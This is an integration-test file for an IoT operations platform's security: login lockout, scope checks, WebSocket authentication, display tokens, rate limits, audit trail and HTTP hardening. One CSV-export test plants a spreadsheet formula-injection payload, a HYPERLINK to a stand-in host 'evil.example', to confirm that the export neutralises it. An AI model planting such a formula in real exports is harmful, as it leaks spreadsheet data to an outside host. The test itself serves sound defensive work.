import { randomBytes } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import WebSocket from 'ws';
import type { WsServerMessage } from '@ioc/contracts';
import { runAuthCommand } from '../../apps/api/src/auth/users.cli';
import { cliServices } from '../../apps/api/src/composition/services';
import { connectDevice } from '../support/mqtt';
import { startTestPlatform, type TestPlatform } from '../support/platform';
import { waitFor } from '../support/wait';

const HOME = '20275';
const FOREIGN = '20314';
const METRICS_TOKEN = randomBytes(24).toString('hex');
const ORIGIN = 'https://ioc.danang.example.vn';

let platform: TestPlatform;
let seq = 0;
/** A distinct client address per scenario (X-Forwarded-For from loopback is trusted). */
const freshIp = () => `10.77.${Math.floor(++seq / 250)}.${seq % 250}`;

beforeAll(async () => {
  platform = await startTestPlatform({
    LOGIN_MAX_ATTEMPTS: '3',
    LOGIN_MAX_ATTEMPTS_PER_IP: '6',
    INGEST_RATE_BURST: '5',
    INGEST_RATE_PER_SECOND: '1',
    INGEST_RATE_SOURCE_BURST: '30',
    INGEST_RATE_PER_SOURCE_PER_SECOND: '1',
    CORS_ORIGINS: ORIGIN,
    METRICS_TOKEN,
  });
});

afterAll(async () => {
  await platform.dispose();
});

async function api(
  method: string,
  path: string,
  opts: {
    token?: string | null;
    body?: unknown;
    ip?: string;
    headers?: Record<string, string>;
  } = {},
): Promise<Answer> {
  const headers: Record<string, string> = { ...opts.headers };
  if (opts.token) headers.authorization = `Bearer ${opts.token}`;
  if (opts.ip) headers['x-forwarded-for'] = opts.ip;
  if (opts.body !== undefined) headers['content-type'] = 'application/json';
  const res = await fetch(`${platform.httpUrl}${path}`, {
    method,
    headers,
    ...(opts.body !== undefined
      ? { body: typeof opts.body === 'string' ? opts.body : JSON.stringify(opts.body) }
      : {}),
  });
  const text = await res.text();
  let body: unknown = null;
  try {
    body = JSON.parse(text);
  } catch {
    // CSV and other text bodies: read `text`
  }
  const token = (body as { token?: unknown } | null)?.token;
  return {
    status: res.status,
    body,
    text,
    headers: res.headers,
    token: typeof token === 'string' ? token : '',
  };
}

interface Answer {
  status: number;
  body: unknown;
  text: string;
  headers: Headers;
  /** `token` of the JSON body when there is one (logins, issued display tokens). */
  token: string;
}

interface AuditRow {
  action: string;
  actor: string;
  unit_code: string | null;
  detail: Record<string, unknown>;
}

async function auditRows(where: string, params: unknown[]): Promise<AuditRow[]> {
  const { rows } = await platform.ctx.pool.query<AuditRow>(
    `SELECT action, actor, unit_code, detail FROM audit_log WHERE ${where} ORDER BY id`,
    params,
  );
  return rows;
}

async function createUser(
  role: string,
  units: string[],
  password = 'correct horse battery',
): Promise<{ id: string; username: string; password: string }> {
  const username = `u${++seq}-${randomBytes(2).toString('hex')}`;
  const r = await api('POST', '/api/v1/users', {
    token: platform.adminToken,
    body: { username, password, role, units, displayName: `Người dùng ${seq}` },
  });
  expect(r.status, JSON.stringify(r.body)).toBe(201);
  return { id: (r.body as { id: string }).id, username, password };
}

async function login(username: string, password: string, ip = freshIp()) {
  return api('POST', '/api/v1/auth/login', { body: { username, password }, ip });
}

describe('login, sessions and lockout', () => {
  it('opens a session with expiry and audits success and failure without secrets', async () => {
    const u = await createUser('ward_leader', [HOME]);
    const ok = await login(u.username, u.password);
    expect(ok.status).toBe(200);
    expect(ok.body).toMatchObject({
      user: { username: u.username, role: 'ward_leader', units: [HOME] },
    });
    expect(ok.token).toMatch(/^iocs_/);
    const ttl = new Date((ok.body as { expiresAt: string }).expiresAt).getTime() - Date.now();
    expect(ttl).toBeGreaterThan(11 * 3_600_000);
    expect(ttl).toBeLessThanOrEqual(12 * 3_600_000);
    expect(ok.headers.get('cache-control')).toBe('no-store');

    const me = await api('GET', '/api/v1/auth/me', { token: ok.token });
    expect(me.body).toMatchObject({
      kind: 'user',
      username: u.username,
      role: 'ward_leader',
      units: [HOME],
    });

    const bad = await login(u.username, 'wrong password!!');
    expect(bad).toMatchObject({ status: 401, body: { error: { code: 'AUTH_BAD_CREDENTIALS' } } });
    const rows = await auditRows('actor = $1', [u.username]);
    expect(rows.map((r) => r.action)).toEqual(
      expect.arrayContaining(['auth.login', 'auth.login_failed']),
    );
    const everything = JSON.stringify(await auditRows('true', []));
    expect(everything).not.toContain(u.password);
    expect(everything).not.toContain('wrong password!!');
    expect(everything).not.toContain(ok.token);
  });

  it('answers an unknown username exactly like a wrong password', async () => {
    const r = await login(`ghost-${seq}`, 'whatever-password');
    expect(r).toMatchObject({ status: 401, body: { error: { code: 'AUTH_BAD_CREDENTIALS' } } });
  });

  it('locks a username after LOGIN_MAX_ATTEMPTS failures from an address, even for the right password there', async () => {
    const u = await createUser('province_leader', ['48']);
    const attacker = freshIp();
    for (let i = 0; i < 3; i++)
      expect((await login(u.username, `guess-number-${i}`, attacker)).status).toBe(401);
    const locked = await login(u.username, u.password, attacker);
    expect(locked).toMatchObject({ status: 429, body: { error: { code: 'AUTH_LOCKED' } } });
    expect(Number(locked.headers.get('retry-after'))).toBeGreaterThan(0);
    expect((await auditRows("action = 'auth.lockout' AND actor = $1", [u.username])).length).toBe(
      1,
    );
    expect(
      (await auditRows("action = 'auth.login_locked' AND actor = $1", [u.username])).length,
    ).toBe(1);
    // Another account is not affected, nor the same account from the owner's own address: a
    // stranger guessing cannot lock the owner (the admin included) out.
    const other = await createUser('province_leader', ['48']);
    expect((await login(other.username, other.password, attacker)).status).toBe(200);
    expect((await login(u.username, u.password, freshIp())).status).toBe(200);
  });

  it('lets an administrator lift a lock (API and audit)', async () => {
    const u = await createUser('ward_operator', [HOME]);
    const ip = freshIp();
    for (let i = 0; i < 3; i++) await login(u.username, `guess-again-${i}`, ip);
    expect((await login(u.username, u.password, ip)).status).toBe(429);
    const forbidden = await platform.loginAs('province_operator', ['48']);
    expect((await api('POST', `/api/v1/users/${u.id}/unlock`, { token: forbidden })).status).toBe(
      403,
    );
    expect(
      (await api('POST', `/api/v1/users/${u.id}/unlock`, { token: platform.adminToken })).status,
    ).toBe(204);
    expect((await login(u.username, u.password, ip)).status).toBe(200);
    const rows = await auditRows("action = 'user.unlock'", []);
    expect(rows.at(-1)?.detail).toMatchObject({ username: u.username });
  });

  it('locks a client address that tries many usernames', async () => {
    const ip = freshIp();
    for (let i = 0; i < 6; i++)
      expect((await login(`spray-${seq}-${i}`, 'Password123456', ip)).status).toBe(401);
    const victim = await createUser('ward_operator', [HOME]);
    expect((await login(victim.username, victim.password, ip)).status).toBe(429);
    expect((await login(victim.username, victim.password, freshIp())).status).toBe(200);
  });

  it('ends a session at logout', async () => {
    const token = await platform.loginAs('ward_leader', [HOME]);
    expect((await api('POST', '/api/v1/auth/logout', { token })).status).toBe(204);
    expect(await api('GET', '/api/v1/auth/me', { token })).toMatchObject({
      status: 401,
      body: { error: { code: 'AUTH_INVALID_TOKEN' } },
    });
  });

  it('rejects unknown fields and over-deep JSON', async () => {
    expect(
      await api('POST', '/api/v1/auth/login', {
        body: { username: 'a', password: 'b', role: 'admin' },
      }),
    ).toMatchObject({
      status: 400,
      body: { error: { code: 'INVALID_REQUEST' } },
    });
    const deep = '['.repeat(40) + ']'.repeat(40);
    expect(await api('POST', '/api/v1/auth/login', { body: deep })).toMatchObject({
      status: 400,
      body: { error: { code: 'JSON_TOO_DEEP' } },
    });
  });
});

describe('unit scope: a ward leader of 20275 asking for 20314', () => {
  let token = '';
  let actor = '';
  beforeAll(async () => {
    const u = await createUser('ward_leader', [HOME]);
    actor = u.username;
    token = (await login(u.username, u.password)).token;
  });

  it('gets its own ward’s devices and readings', async () => {
    const r = await api('GET', `/api/v1/devices?unit=${HOME}`, { token });
    expect(r.status).toBe(200);
    expect(
      (r.body as { items: { unitCode: string }[] }).items.every((d) => d.unitCode === HOME),
    ).toBe(true);
  });

  it('gets 403 FORBIDDEN_SCOPE and an audit row for 20314’s devices and readings', async () => {
    const r = await api('GET', `/api/v1/devices?unit=${FOREIGN}`, { token });
    expect(r).toMatchObject({ status: 403, body: { error: { code: 'FORBIDDEN_SCOPE' } } });
    const rows = await auditRows("action = 'access.denied' AND actor = $1 AND unit_code = $2", [
      actor,
      FOREIGN,
    ]);
    expect(rows[0]?.detail).toMatchObject({ code: 'FORBIDDEN_SCOPE', action: 'read' });
  });

  it('cannot widen the question: no unit, the province, or a list with a foreign unit', async () => {
    for (const q of ['', '?unit=48', `?unit=${HOME},${FOREIGN}`]) {
      expect((await api('GET', `/api/v1/devices${q}`, { token })).status, q).toBe(403);
    }
  });

  it('is refused 20314’s WebSocket channels, with audit rows', async () => {
    const ws = await openWs(token);
    ws.send({
      type: 'subscribe',
      channels: [`unit:${HOME}`, `unit:${FOREIGN}`, `alerts:${FOREIGN}`],
    });
    const sub = await ws.next((m) => m.type === 'subscribed');
    expect(sub).toEqual({ type: 'subscribed', channels: [`unit:${HOME}`] });
    const refused = ws.messages.flatMap((m) => (m.type === 'refused' ? [[m.channel, m.code]] : []));
    expect(refused).toEqual([
      [`unit:${FOREIGN}`, 'FORBIDDEN_SCOPE'],
      [`alerts:${FOREIGN}`, 'FORBIDDEN_SCOPE'],
    ]);
    ws.close();
    const rows = await auditRows(
      "action = 'access.denied' AND actor = $1 AND target_kind = 'ws_channel'",
      [actor],
    );
    expect(rows.map((r) => r.unit_code)).toEqual([FOREIGN, FOREIGN]);
  });
});

interface Ws {
  messages: WsServerMessage[];
  closed: Promise<number>;
  send(m: unknown): void;
  next(pred: (m: WsServerMessage) => boolean): Promise<WsServerMessage>;
  close(): void;
}

/** `via: 'url'` puts the token in ?token= (only display tokens are taken there). */
async function openWs(token: string | null, via: 'message' | 'url' = 'message'): Promise<Ws> {
  const url = new URL('/ws', platform.httpUrl.replace(/^http/, 'ws'));
  if (token && via === 'url') url.searchParams.set('token', token);
  const ws = new WebSocket(url);
  const messages: WsServerMessage[] = [];
  const closed = new Promise<number>((resolve) => {
    ws.on('close', (code) => {
      resolve(code);
    });
  });
  ws.on('message', (d: Buffer) => {
    messages.push(JSON.parse(d.toString()) as WsServerMessage);
  });
  await new Promise<void>((resolve, reject) => {
    ws.once('open', () => {
      resolve();
    });
    ws.once('error', reject);
  });
  if (token && via === 'message') ws.send(JSON.stringify({ type: 'auth', token }));
  return {
    messages,
    closed,
    send: (m) => {
      ws.send(JSON.stringify(m));
    },
    next: (pred) => waitFor(() => messages.find(pred), 5_000, 'a WebSocket message'),
    close: () => {
      ws.close();
    },
  };
}

describe('WebSocket authentication', () => {
  it('accepts a first {type:"auth"} message instead of ?token=', async () => {
    const token = await platform.loginAs('ward_operator', [HOME]);
    const ws = await openWs(null);
    ws.send({ type: 'auth', token });
    ws.send({ type: 'subscribe', channels: [`unit:${HOME}`] });
    expect(await ws.next((m) => m.type === 'subscribed')).toEqual({
      type: 'subscribed',
      channels: [`unit:${HOME}`],
    });
    expect(ws.messages[0]).toMatchObject({ type: 'authenticated', kind: 'user', units: [HOME] });
    ws.close();
  });

  it('refuses a session token in the URL (HTTP refuses it there too), a display token is taken', async () => {
    const token = await platform.loginAs('ward_operator', [HOME]);
    const ws = await openWs(token, 'url');
    expect(await ws.closed).toBe(4401);
    expect(ws.messages).toContainEqual(
      expect.objectContaining({ type: 'error', code: 'AUTH_INVALID_TOKEN' }),
    );
    const wall = await openWs(await platform.displayToken(HOME), 'url');
    wall.send({ type: 'subscribe', channels: [`unit:${HOME}`] });
    expect(await wall.next((m) => m.type === 'subscribed')).toEqual({
      type: 'subscribed',
      channels: [`unit:${HOME}`],
    });
    wall.close();
  });

  it('closes a connection that subscribes before authenticating', async () => {
    const ws = await openWs(null);
    ws.send({ type: 'subscribe', channels: [`unit:${HOME}`] });
    expect(await ws.closed).toBe(4401);
    expect(ws.messages).toContainEqual(
      expect.objectContaining({ type: 'error', code: 'AUTH_REQUIRED' }),
    );
  });

  it('closes an open connection once its session is revoked', async () => {
    const token = await platform.loginAs('province_leader', ['48']);
    const ws = await openWs(token);
    ws.send({ type: 'subscribe', channels: ['unit:48'] });
    await ws.next((m) => m.type === 'subscribed');
    expect((await api('POST', '/api/v1/auth/logout', { token })).status).toBe(204);
    expect(await platform.ctx.auth.ws.sweep()).toBeGreaterThanOrEqual(1);
    expect(await ws.closed).toBe(4401);
  });
});

describe('users administration', () => {
  it('is for administrators only', async () => {
    const token = await platform.loginAs('province_operator', ['48']);
    expect(await api('GET', '/api/v1/users', { token })).toMatchObject({
      status: 403,
      body: { error: { code: 'FORBIDDEN_ROLE' } },
    });
    expect(
      (await auditRows("action = 'access.denied' AND target_id = 'GET /api/v1/users'", [])).length,
    ).toBeGreaterThan(0);
  });

  it('validates role and unit scope against the administrative units', async () => {
    const bad = [
      { role: 'ward_leader', units: ['48'] },
      { role: 'province_leader', units: [HOME] },
      { role: 'ward_leader', units: ['99999'] },
      { role: 'ward_leader', units: [] },
      { role: 'admin', units: [HOME] },
    ];
    for (const b of bad) {
      const r = await api('POST', '/api/v1/users', {
        token: platform.adminToken,
        body: { username: `bad-${++seq}`, password: 'long enough password', ...b },
      });
      expect(r.status, JSON.stringify(b)).toBe(400);
    }
    const weak = await api('POST', '/api/v1/users', {
      token: platform.adminToken,
      body: { username: `weak-${++seq}`, password: 'short', role: 'ward_leader', units: [HOME] },
    });
    expect(weak).toMatchObject({ status: 400 });
  });

  it('audits role and scope changes with before and after, and applies them at once', async () => {
    const u = await createUser('ward_operator', [HOME]);
    const token = (await login(u.username, u.password)).token;
    expect((await api('GET', `/api/v1/devices?unit=${FOREIGN}`, { token })).status).toBe(403);
    const r = await api('PATCH', `/api/v1/users/${u.id}`, {
      token: platform.adminToken,
      body: { role: 'province_operator', units: ['48'] },
    });
    expect(r).toMatchObject({ status: 200, body: { role: 'province_operator', units: ['48'] } });
    expect((await api('GET', `/api/v1/devices?unit=${FOREIGN}`, { token })).status).toBe(200);
    const [change] = await auditRows("action = 'user.role_change' AND detail->>'username' = $1", [
      u.username,
    ]);
    expect(change?.detail).toMatchObject({
      from: { role: 'ward_operator', units: [HOME] },
      to: { role: 'province_operator', units: ['48'] },
    });
  });

  it('disabling a user ends their sessions; a password reset too', async () => {
    const u = await createUser('ward_leader', [HOME]);
    const t1 = (await login(u.username, u.password)).token;
    expect(
      (
        await api('PATCH', `/api/v1/users/${u.id}`, {
          token: platform.adminToken,
          body: { disabled: true },
        })
      ).status,
    ).toBe(200);
    expect((await api('GET', '/api/v1/auth/me', { token: t1 })).status).toBe(401);
    expect((await login(u.username, u.password)).status).toBe(401);
    await api('PATCH', `/api/v1/users/${u.id}`, {
      token: platform.adminToken,
      body: { disabled: false },
    });
    const t2 = (await login(u.username, u.password)).token;
    expect(
      (
        await api('POST', `/api/v1/users/${u.id}/password`, {
          token: platform.adminToken,
          body: { password: 'a brand new passphrase' },
        })
      ).status,
    ).toBe(204);
    expect((await api('GET', '/api/v1/auth/me', { token: t2 })).status).toBe(401);
    expect((await login(u.username, 'a brand new passphrase')).status).toBe(200);
    const actions = (
      await auditRows("target_kind = 'user' AND detail->>'username' = $1", [u.username])
    ).map((r) => r.action);
    expect(actions).toEqual(
      expect.arrayContaining(['user.create', 'user.disable', 'user.enable', 'user.password_reset']),
    );
  });

  it('keeps the last administrator', async () => {
    const admins = (
      (await api('GET', '/api/v1/users', { token: platform.adminToken })).body as {
        items: { id: string; role: string; disabled: boolean }[];
      }
    ).items.filter((u) => u.role === 'admin' && !u.disabled);
    expect(admins).toHaveLength(1);
    const r = await api('PATCH', `/api/v1/users/${admins[0]?.id ?? ''}`, {
      token: platform.adminToken,
      body: { disabled: true },
    });
    expect(r).toMatchObject({ status: 409, body: { error: { code: 'LAST_ADMIN' } } });
  });

  it('`ioc users add` takes the password from stdin (no prompt in CI)', async () => {
    const out: string[] = [];
    const code = await runAuthCommand(
      'users add',
      ['--username', 'Cli-Leader', '--role', 'ward_leader', '--units', HOME],
      cliServices(platform.ctx.pool).auth,
      {
        print: (l) => out.push(l),
        readStdin: () => Promise.resolve('piped passphrase 42\n'),
      },
    );
    expect(code).toBe(0);
    expect(out.join('\n')).toContain('cli-leader');
    expect((await login('cli-leader', 'piped passphrase 42')).status).toBe(200);
    expect(
      (await auditRows("action = 'user.create' AND detail->>'username' = 'cli-leader'", []))[0]
        ?.actor,
    ).toMatch(/^cli:/);
  });
});

describe('display tokens', () => {
  it('are read-only, one unit, usable as ?token=, rotatable and revocable', async () => {
    const issued = await api('POST', '/api/v1/display-tokens', {
      token: platform.adminToken,
      body: { name: 'Màn hình phường', unitCode: HOME },
    });
    expect(issued.status).toBe(201);
    const { token, displayToken, wallPath } = issued.body as {
      token: string;
      displayToken: { id: string };
      wallPath: string;
    };
    expect(wallPath).toBe(`/wall?unit=${HOME}&token=${token}`);
    expect((await api('GET', `/api/v1/devices?unit=${HOME}&token=${token}`)).status).toBe(200);
    expect((await api('GET', `/api/v1/devices?unit=${HOME}`, { token })).status).toBe(200);
    expect((await api('GET', `/api/v1/devices?unit=${FOREIGN}&token=${token}`)).status).toBe(403);
    expect((await api('GET', '/api/v1/users', { token })).status).toBe(403);
    // Shown once: the list never carries it.
    expect(
      JSON.stringify(
        (await api('GET', '/api/v1/display-tokens', { token: platform.adminToken })).body,
      ),
    ).not.toContain(token);

    const rotated = await api('POST', `/api/v1/display-tokens/${displayToken.id}/rotate`, {
      token: platform.adminToken,
    });
    const fresh = (rotated.body as { token: string }).token;
    expect(fresh).not.toBe(token);
    expect((await api('GET', `/api/v1/devices?unit=${HOME}&token=${token}`)).status).toBe(401);
    expect((await api('GET', `/api/v1/devices?unit=${HOME}&token=${fresh}`)).status).toBe(200);

    expect(
      (
        await api('DELETE', `/api/v1/display-tokens/${displayToken.id}`, {
          token: platform.adminToken,
        })
      ).status,
    ).toBe(204);
    expect((await api('GET', `/api/v1/devices?unit=${HOME}&token=${fresh}`)).status).toBe(401);
    const actions = (
      await auditRows("target_kind = 'display_token' AND target_id = $1", [displayToken.id])
    ).map((r) => r.action);
    expect(actions).toEqual([
      'display_token.create',
      'display_token.rotate',
      'display_token.revoke',
    ]);
  });
});

describe('audit trail', () => {
  it('is queryable by action, actor and period', async () => {
    const from = new Date(Date.now() - 60_000).toISOString();
    const r = await api(
      'GET',
      `/api/v1/audit?action=auth.*&from=${encodeURIComponent(from)}&limit=5`,
      { token: platform.adminToken },
    );
    expect(r.status).toBe(200);
    const items = (r.body as { items: { action: string; at: string }[] }).items;
    expect(items.length).toBe(5);
    expect(items.every((i) => i.action.startsWith('auth.') && i.at >= from)).toBe(true);
    const next = (r.body as { next: number }).next;
    const page2 = await api('GET', `/api/v1/audit?action=auth.*&before=${next}&limit=5`, {
      token: platform.adminToken,
    });
    expect((page2.body as { items: { id: number }[] }).items.every((i) => i.id < next)).toBe(true);
    expect((await api('GET', '/api/v1/audit?bogus=1', { token: platform.adminToken })).status).toBe(
      400,
    );
  });

  it('exports CSV with formula injection neutralised, and audits the export', async () => {
    // A display name that a spreadsheet would run, landing in the actor_name column on login.
    const evil = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    const username = `csv-${++seq}`;
    const r1 = await api('POST', '/api/v1/users', {
      token: platform.adminToken,
      body: {
        username,
        password: 'long enough password',
        role: 'ward_leader',
        units: [HOME],
        displayName: evil,
      },
    });
    expect(r1.status).toBe(201);
    expect((await login(username, 'long enough password')).status).toBe(200);
    const csv = await api('GET', `/api/v1/audit.csv?action=auth.login&actor=${username}`, {
      token: platform.adminToken,
    });
    expect(csv.status).toBe(200);
    expect(csv.headers.get('content-type')).toContain('text/csv');
    expect(csv.headers.get('content-disposition')).toContain('attachment');
    const text = csv.text.replace(/^\uFEFF/, '');
    const lines = text.split('\r\n').filter((l) => l !== '');
    expect(lines[0]).toBe(
      'id,at,actor,actor_kind,actor_name,action,target_kind,target_id,unit_code,ip,detail',
    );
    expect(lines).toHaveLength(2);
    expect(lines[1]).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
    // Every cell starts with a harmless character: nothing a spreadsheet would evaluate.
    for (const line of lines.slice(1)) {
      for (const cell of line.match(/("([^"]|"")*"|[^,]*)(,|$)/g) ?? [])
        expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
    }
    expect((await auditRows("action = 'audit.export'", [])).length).toBeGreaterThan(0);
    // Append-only: the database itself refuses edits.
    await expect(platform.ctx.pool.query("UPDATE audit_log SET actor = 'x'")).rejects.toThrow(
      /append-only/,
    );
    await expect(platform.ctx.pool.query('DELETE FROM audit_log')).rejects.toThrow(/append-only/);
  });
});

describe('machine credentials write only their own data', () => {
  const id = `aq-own-${Date.now().toString(36)}`;
  const other = `${id}-b`;
  const gw = `${id}-gw`;
  let token = '';
  let gwToken = '';

  beforeAll(async () => {
    token = await platform.addDevice({ id, unitCode: HOME });
    await platform.addDevice({ id: other, unitCode: FOREIGN });
    gwToken = await platform.addDevice({ id: gw, kind: 'gateway', unitCode: HOME });
  });

  const stored = async (deviceId: string) =>
    (
      await platform.ctx.pool.query<{ n: number }>(
        'SELECT count(*)::int AS n FROM reading WHERE device_id = $1',
        [deviceId],
      )
    ).rows[0]?.n ?? 0;
  const deadLetters = async (reason: string, deviceId: string) =>
    (
      await platform.ctx.pool.query<{ n: number }>(
        'SELECT count(*)::int AS n FROM dead_letter WHERE reason = $1 AND device_id = $2',
        [reason, deviceId],
      )
    ).rows[0]?.n ?? 0;

  it('HTTP: a device token naming another device stores nothing and leaves a dead letter', async () => {
    const pack = [{ bn: `urn:dev:ops:${other}:`, n: 'pm25', v: 12 }];
    const r = await api('POST', '/api/v1/telemetry', { token, body: pack });
    expect(r.status).toBe(400);
    expect(r.body).toMatchObject({ error: { code: 'INGEST_TOPIC_NOT_OWNED' } });
    await waitFor(async () => ((await deadLetters('topic_not_owned', id)) > 0 ? true : undefined));
    expect(await stored(other)).toBe(0);
  });

  it('HTTP: a gateway token for a device it does not front stores nothing and leaves a dead letter', async () => {
    const r = await api('POST', '/api/v1/telemetry', {
      token: gwToken,
      body: { [other]: [{ values: { pm25: 13 } }] },
    });
    expect(r.status).toBe(400);
    await waitFor(async () =>
      (await deadLetters('not_fronted_by_gateway', other)) > 0 ? true : undefined,
    );
    expect(await stored(other)).toBe(0);
  });

  it('MQTT: a device publishing on another device’s topic stores nothing and leaves a dead letter', async () => {
    const c = await connectDevice(platform.mqttUrl, id, token, `spoof-${id}`);
    c.on('error', () => undefined);
    c.publish(`ioc/v1/telemetry/${other}`, JSON.stringify({ values: { pm25: 99 } }), { qos: 0 });
    await waitFor(async () => ((await deadLetters('topic_not_owned', id)) > 1 ? true : undefined));
    expect(await stored(other)).toBe(0);
    await c.endAsync(true).catch(() => undefined);
  });

  it('a person’s session token cannot ingest', async () => {
    expect(
      (
        await api('POST', '/api/v1/telemetry', {
          token: platform.adminToken,
          body: { values: { pm25: 1 } },
        })
      ).status,
    ).toBe(401);
  });

  it('rate-limits per credential with 429 and Retry-After', async () => {
    const limited = await platform.addDevice({ id: `${id}-rl`, unitCode: HOME });
    const statuses: number[] = [];
    let retryAfter: string | null = null;
    for (let i = 0; i < 8; i++) {
      const r = await api('POST', '/api/v1/telemetry', {
        token: limited,
        body: { values: { pm25: 10 + i } },
      });
      statuses.push(r.status);
      if (r.status === 429) retryAfter = r.headers.get('retry-after');
    }
    expect(statuses.slice(0, 5).every((s) => s === 202)).toBe(true);
    expect(statuses.slice(5)).toContain(429);
    expect(Number(retryAfter)).toBeGreaterThanOrEqual(1);
    // Another credential has its own bucket.
    expect(
      (await api('POST', '/api/v1/telemetry', { token, body: { values: { pm25: 5 } } })).status,
    ).toBe(202);
  });

  it('audits refused (401) requests, one counted row per address and code per window', async () => {
    const ip = '198.51.100.77';
    for (let i = 0; i < 40; i++) {
      const r = await api('GET', '/api/v1/devices?unit=48', { token: `iocs_guess_${i}`, ip });
      expect(r.status).toBe(401);
    }
    await platform.ctx.auth.refusals.flush();
    const rows = await platform.ctx.pool.query<{ ip: string; detail: Record<string, unknown> }>(
      "SELECT ip, detail FROM audit_log WHERE action = 'access.unauthenticated' AND ip = $1 ORDER BY id",
      [ip],
    );
    expect(rows.rows.map((r) => [r.detail['code'], r.detail['count']])).toEqual([
      ['AUTH_INVALID_TOKEN', 1],
      ['AUTH_INVALID_TOKEN', 39],
    ]);
    // Never the token itself, nor the query string.
    expect(JSON.stringify(rows.rows)).not.toContain('iocs_guess');
    expect(rows.rows[0]?.detail['routes']).toEqual(['GET /api/v1/devices']);
  });

  it('rate-limits per source too: a new credential on every request gains nothing', async () => {
    const ip = '198.51.100.23';
    const statuses: number[] = [];
    for (let i = 0; i < 36; i++) {
      const r = await api('POST', '/api/v1/telemetry', {
        token: `iocdev_forged_${i}_${Math.random().toString(36).slice(2)}`,
        body: { values: { pm25: 1 } },
        ip,
      });
      statuses.push(r.status);
    }
    // The forged tokens are refused (401) until the address's budget is spent, then 429.
    expect(statuses.slice(0, 25).every((s) => s === 401)).toBe(true);
    expect(statuses.slice(31)).toEqual([429, 429, 429, 429, 429]);
    // Another address is not held up by it.
    expect(
      (
        await api('POST', '/api/v1/telemetry', {
          token,
          body: { values: { pm25: 6 } },
          ip: '198.51.100.24',
        })
      ).status,
    ).toBe(202);
  });
});

describe('HTTP hardening', () => {
  it('sends security headers on API answers and web pages', async () => {
    for (const path of ['/api/v1/health', '/wall']) {
      const r = await api('GET', path);
      expect(r.headers.get('x-content-type-options')).toBe('nosniff');
      expect(r.headers.get('x-frame-options')).toBe('DENY');
      expect(r.headers.get('referrer-policy')).toBe('no-referrer');
      const csp = r.headers.get('content-security-policy') ?? '';
      expect(csp).toContain("frame-ancestors 'none'");
      expect(csp).toContain('worker-src');
      expect(csp).not.toContain('unsafe-eval');
    }
  });

  it('allows CORS only for configured origins', async () => {
    const pre = (origin: string) =>
      fetch(`${platform.httpUrl}/api/v1/devices`, {
        method: 'OPTIONS',
        headers: {
          origin,
          'access-control-request-method': 'GET',
          'access-control-request-headers': 'authorization',
        },
      });
    const ok = await pre(ORIGIN);
    expect(ok.status).toBe(204);
    expect(ok.headers.get('access-control-allow-origin')).toBe(ORIGIN);
    expect(ok.headers.get('access-control-allow-headers')).toContain('authorization');
    const evil = await pre('https://evil.example');
    expect(evil.status).toBe(403);
    expect(evil.headers.get('access-control-allow-origin')).toBeNull();
    const get = await api('GET', '/api/v1/health', { headers: { origin: 'https://evil.example' } });
    expect(get.headers.get('access-control-allow-origin')).toBeNull();
  });

  it('serves /metrics to the scraper token or an administrator only', async () => {
    expect((await api('GET', '/metrics')).status).toBe(401);
    expect(
      (await api('GET', '/metrics', { token: await platform.loginAs('province_leader', ['48']) }))
        .status,
    ).toBe(403);
    expect((await api('GET', '/metrics', { token: METRICS_TOKEN })).status).toBe(200);
    expect((await api('GET', '/metrics', { token: platform.adminToken })).status).toBe(200);
  });
});
